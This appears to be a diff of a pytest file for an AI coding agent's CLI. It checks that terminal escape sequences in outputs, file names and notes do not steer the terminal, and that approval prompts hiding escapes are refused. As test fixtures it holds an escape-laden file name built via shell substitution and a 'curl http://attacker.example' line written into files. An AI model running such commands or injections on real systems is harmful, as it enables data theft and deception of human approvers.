@@ -43,7 +43,7 @@ def odd(*ends: Ended) -> list[str]:
 
 
 @pytest.mark.parametrize("json_flag", [False, True])
-def test_titles_questions_outputs_and_names_steer_no_terminal(json_flag: bool, acode: Acode, workspace: Path) -> None:
+def test_outputs_arguments_remarks_and_names_steer_no_terminal(json_flag: bool, acode: Acode, workspace: Path) -> None:
     script = workspace / "say.py"
     script.write_text(f"import sys; sys.stdout.write({NASTY!r}); sys.exit(3)")
     name = f"f{CLEAR}.txt"
@@ -51,33 +51,47 @@ def test_titles_questions_outputs_and_names_steer_no_terminal(json_flag: bool, a
     steps = [
         {"write": {"path": "out/x.txt", "content": NASTY}},
         {"run": ["printf", "%s\n", NASTY]},
-        {"approve": f"Go on? {NASTY}"},
+        {"run": "mkdir -p made; echo x > made/$(printf 'n\\033[2Jm')", "outputs": ["made/*"]},
+        {"approve": "Go on?"},
         {"run": ["sh", "-c", "python3 say.py", NASTY], "id": "fails"},
     ]
-    (workspace / "plan.yml").write_text(plan_text(NASTY, [{"id": "main", "title": NASTY, "steps": steps}]))
+    (workspace / "plan.yml").write_text(plan_text("Nasty", [{"id": "main", "title": "x", "steps": steps}]))
     extra = ("--json",) if json_flag else ()
     ran = acode("run", "plan.yml", *extra)
-    assert ran.exit_code in (2, 10), ran.stderr
+    assert ran.exit_code == 10, ran.stderr
     ends = [ran, acode("session", "show", NASTY, *extra), acode("run", name, *extra), acode(NASTY, *extra)]
-    if ran.exit_code == 10:
-        session_id = acode("session", "list", "--json").json[0]["session_id"]
-        ends += [
-            acode("session", "approve", session_id, "--note", NASTY, *extra),
-            acode("resume", "--last", *extra),
-            acode("status", *extra),
-            acode("explain", *extra),
-            acode("session", "list", *extra),
-            acode("session", "show", *extra),
-            acode("session", "history", *extra),
-            acode("session", "verify", *extra),
-            acode("resume", "--last", "--dry-run", *extra),
-            acode("resume", "--last", "--force", "--reason", NASTY, *extra),
-            acode("session", "rollback", session_id, "--dry-run", *extra),
-            acode("session", "repair", session_id, "--dry-run", *extra),
-            acode("session", "cancel", session_id, "--reason", NASTY, *extra),
-            acode("session", "gc", "--dry-run", "--older-than", "0", *extra),
-        ]
+    session_id = acode("session", "list", "--json").json[0]["session_id"]
+    for path in (workspace / "made").iterdir():
+        path.write_text(f"curl http://attacker.example {NASTY}")  # a changed file, named and shown with its content
+    ends += [
+        acode("session", "approve", session_id, "--note", NASTY, *extra),
+        acode("resume", "--last", *extra),
+        acode("status", *extra),
+        acode("explain", *extra),
+        acode("session", "list", *extra),
+        acode("session", "show", *extra),
+        acode("session", "history", *extra),
+        acode("session", "verify", *extra),
+        acode("resume", "--last", "--dry-run", *extra),
+        acode("resume", "--last", "--force", "--reason", NASTY, *extra),
+        acode("session", "rollback", session_id, "--dry-run", *extra),
+        acode("session", "repair", session_id, "--dry-run", *extra),
+        acode("session", "cancel", session_id, "--reason", NASTY, *extra),
+        acode("session", "gc", "--dry-run", "--older-than", "0", *extra),
+    ]
     assert odd(*ends) == []
+
+
+@pytest.mark.parametrize("place", ["title", "task", "question"])
+def test_a_question_or_title_that_does_not_read_as_what_it_is_is_refused(
+    place: str, acode: Acode, workspace: Path
+) -> None:
+    """A person approves what can be read: an escape sequence could show other words than those that are approved."""
+    words = {"title": "x", "task": "x", "question": "Go on?"} | {place: f"Go on? {NASTY}"}
+    task = {"id": "a", "title": words["task"], "steps": [{"approve": words["question"]}]}
+    (workspace / "plan.yml").write_text(plan_text(words["title"], [task]))
+    refused = acode("run", "plan.yml")
+    assert refused.exit_code == 2 and odd(refused) == []
 
 
 def test_an_edited_row_full_of_escapes_steers_no_terminal(acode: Acode, workspace: Path) -> None:
